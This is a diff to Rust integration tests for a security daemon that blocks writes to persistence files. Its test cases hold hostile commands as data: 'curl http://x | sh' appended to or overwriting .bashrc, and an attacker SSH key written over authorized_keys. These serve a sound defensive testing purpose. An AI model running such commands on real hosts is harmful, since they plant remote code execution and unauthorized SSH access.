@@ -196,10 +196,8 @@ fn run_cases(d: &Daemon, cases: &[Case]) -> Vec<String> {
             Expect::Kill(rule) => {
                 wait_exit(&mut child);
                 let f = d.findings(&trace);
-                if !f
-                    .iter()
-                    .any(|f| f["rule"] == rule && f["outcome"] == "killed")
-                {
+                let killed = |o: &serde_json::Value| o == "killed" || o == "killed_in_kernel";
+                if !f.iter().any(|f| f["rule"] == rule && killed(&f["outcome"])) {
                     failures.push(format!("{}: not killed by {rule}: {f:?}", c.name));
                 }
             }
@@ -214,11 +212,15 @@ fn run_cases(d: &Daemon, cases: &[Case]) -> Vec<String> {
     failures
 }
 
+/// The fake home's `authorized_keys`, made before the daemon starts.
+const AUTHORIZED: &[u8] = b"ssh-ed25519 AAAA owner\n";
+
 #[test]
 fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
     common::require_root();
     let home = FakeHome::new();
     let h = home.0.clone();
+    std::fs::write(h.join(".ssh/authorized_keys"), AUTHORIZED).unwrap();
     let work = TempDir::new("gate-deny");
     let w = work.0.clone();
     let d = pack_daemon(&work);
@@ -311,10 +313,28 @@ fn deny_leaves_the_host_as_if_the_attack_had_not_happened() {
         Case {
             name: "a line appended to .bashrc",
             script: format!("echo 'curl http://x | sh' >> {hp}/.bashrc"),
-            expect: Expect::Hold(&["shell-rc-write"]),
+            expect: Expect::Hold(&["protected-path", "shell-rc-write"]),
+            unharmed: Box::new({
+                let (p, b) = (h.join(".bashrc"), bashrc.clone());
+                move || unchanged(&p, &b)
+            }),
+        },
+        Case {
+            name: ".bashrc replaced (O_TRUNC)",
+            script: format!("echo 'curl http://x | sh' > {hp}/.bashrc"),
+            expect: Expect::Hold(&["protected-path", "shell-rc-write"]),
             unharmed: Box::new({
                 let p = h.join(".bashrc");
                 move || unchanged(&p, &bashrc)
+            }),
+        },
+        Case {
+            name: "authorized_keys replaced (O_TRUNC)",
+            script: format!("echo 'ssh-ed25519 AAAA attacker' > {hp}/.ssh/authorized_keys"),
+            expect: Expect::Kill("ssh-authorized-keys-write"),
+            unharmed: Box::new({
+                let p = h.join(".ssh/authorized_keys");
+                move || unchanged(&p, AUTHORIZED)
             }),
         },
         Case {
@@ -455,6 +475,25 @@ fn holds_of(d: &Daemon, trace: &str) -> Vec<serde_json::Value> {
         .into_iter()
         .filter(|h| h["trace_id"] == trace)
         .collect()
+}
+
+#[test]
+fn reading_a_persistence_file_is_not_held() {
+    common::require_root();
+    let home = FakeHome::new();
+    let work = TempDir::new("gate-read");
+    let d = pack_daemon(&work);
+    // Every shell reads its start-up files: only an open for writing waits.
+    let (trace, code) = d.launch(&format!(
+        "cat {h}/.bashrc > /dev/null && sh -c 'cat {h}/.bashrc' > /dev/null",
+        h = home.0.display()
+    ));
+    assert_eq!(code, 0);
+    assert!(
+        holds_of(&d, &trace).is_empty(),
+        "{:#?}",
+        holds_of(&d, &trace)
+    );
 }
 
 #[test]
@@ -787,7 +826,8 @@ fn a_rule_on_a_path_holds_the_file_under_any_other_name() {
     // A persistence file written through a symlink.
     let (mut child, trace) = launch_bg(&d, &format!("echo 'curl x | sh' >> {wp}/rc-link"));
     let hold = await_hold(&d, &trace);
-    if hold["rule"] != "shell-rc-write" {
+    // An existing persistence file waits before the open (fanotify), or at it (the gate).
+    if hold["rule"] != "shell-rc-write" && hold["rule"] != "protected-path" {
         failures.push(format!(".bashrc by a symlink: held by {}", hold["rule"]));
     }
     verdict(&d, "deny", &hold);
